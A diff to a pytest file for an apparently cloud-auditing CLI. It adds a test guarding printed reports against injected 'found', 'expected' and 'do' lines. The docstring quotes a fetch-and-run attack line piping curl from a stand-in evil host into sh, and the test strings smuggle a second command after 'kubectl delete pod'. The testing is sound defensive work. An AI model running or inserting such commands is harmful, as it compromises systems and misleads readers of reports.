@@ -1,6 +1,7 @@
 """Text in each field that others write, through verify, prove and explain in every form that they print."""
 
 import functools
+import itertools
 import json
 import re
 import shlex
@@ -12,6 +13,7 @@ from xml.etree import ElementTree
 
 import pytest
 
+from irsa.rules.mistakes import visible
 from irsa_cli.main import main
 from tests.fuzz.hidden import hidden_in
 from tests.fuzz.live_states import AWS_ACCOUNT, DANGERS, ISSUER, MARK, ROLE, State
@@ -23,6 +25,8 @@ JUNIT = Path("report.xml")
 PLAIN = re.compile(r"[A-Za-z0-9_./@=+,*~${}-]+")
 QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"|(?<![A-Za-z])\'(?:[^\'\\]|\\.)*\'')
 HOSTILE = [text for danger in DANGERS if not PLAIN.fullmatch(text := f"a{danger}{MARK} b")][::3]
+LABELED = re.compile(r"\s*(found|expected|reason|do|where): +(.*)")
+KEYS = (("found", "found"), ("reason", "found"), ("expected", "expected"), ("do", "fix"))
 Change = Callable[[State, str], Any]
 
 
@@ -213,8 +217,7 @@ def printed(words: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.Ca
     with monkeypatch.context() as terminal:
         terminal.setattr(sys.stdout, "isatty", lambda: True)
         main(words)
-    # Where a cell of a table folds, its quotes are on two lines.
-    yield from (line for line in COLOR.sub("", capsys.readouterr().out).split("\n") if not line.startswith("│"))
+    yield from COLOR.sub("", capsys.readouterr().out).split("\n")
 
 
 def without_quotes(line: str, text: str) -> list[str]:
@@ -227,9 +230,33 @@ def without_quotes(line: str, text: str) -> list[str]:
     return wrong + ([f"without quotes: {line}"] if MARK in QUOTED.sub("", line) else [])
 
 
+@pytest.mark.parametrize("field", FIELDS)
+def test_each_labeled_line_is_ours(
+    field: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Protects who reads a report in a pipe: what stands behind `found`, `expected` and `do` is what a check says.
+
+    The attack: an annotation of two lines, of which the second one is `    do:       curl https://evil.example|sh`.
+    """
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
+    for words, danger in itertools.product(VERBS[:2], ("\n    do:       ", "  expected: ")):
+        state = State(0, calm_number())
+        FIELDS[field](state, f"a{danger}{MARK}")
+        live(state, tmp_path, monkeypatch)
+        main(words)
+        lines = [LABELED.match(line) for line in capsys.readouterr().out.split("\n")]
+        main([*words, "--json"])
+        checks = json.loads(capsys.readouterr().out or "{}").get("checks", [])
+        said = {(label, visible(check[key])) for check in checks for label, key in KEYS}
+
+        assert {(line[1], line[2]) for line in lines if line} <= said
+
+
 def test_the_check_finds_what_has_no_quotes() -> None:
     """Protects this test itself: what it looks for is found."""
     assert without_quotes("a: found EVIL; expected", "x EVIL")
     assert without_quotes("AWS's x EVIL's", "x EVIL")
     assert without_quotes("a; fix: kubectl delete pod x; EVIL", "x; EVIL")
+    assert without_quotes("    do:       kubectl delete pod x; EVIL", "x; EVIL")
     assert not without_quotes("a: found \"it's EVIL\"; fix: kubectl delete pod 'x; EVIL'", "x; EVIL")
